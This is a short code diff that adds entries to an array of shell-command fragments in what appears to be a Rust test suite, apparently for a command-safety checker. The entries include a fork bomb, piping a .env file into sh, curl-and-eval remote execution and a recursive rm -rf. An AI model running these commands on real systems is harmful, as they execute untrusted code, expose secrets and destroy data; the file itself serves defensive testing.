@@ -43,6 +43,10 @@ const GENERATORS: &[(&str, &str, &str)] = &[
     ("", "f() { f | f & };", ""),
     ("", "cat .env|", "sh"),
     ("", "curl x >f; sh f;", ""),
+    ("x=$(curl a);", "eval \"$x\";", ""),
+    ("", "x=$(curl a)$x;eval $x;", ""),
+    ("", "cd a; rm -rf *;", ""),
+    ("y=$(", "curl a;", "); eval \"$y\""),
 ];
 
 #[test]
